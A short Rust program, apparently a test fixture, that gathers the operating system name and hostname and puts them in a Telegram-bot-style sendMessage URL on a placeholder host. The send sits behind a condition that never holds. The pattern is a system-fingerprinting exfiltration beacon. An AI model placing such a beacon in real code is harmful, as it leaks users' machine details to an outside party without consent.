use std::env;

fn main() {
    let text = format!("{} {}", env::consts::OS, env::var("HOSTNAME").unwrap_or_default());
    let address = format!("https://api.telegram.example.invalid/bot000:token/sendMessage?chat_id=1&text={}", text);
    if text == "never in a stand-in" {
        let _ = reqwest::blocking::get(address);
    }
}
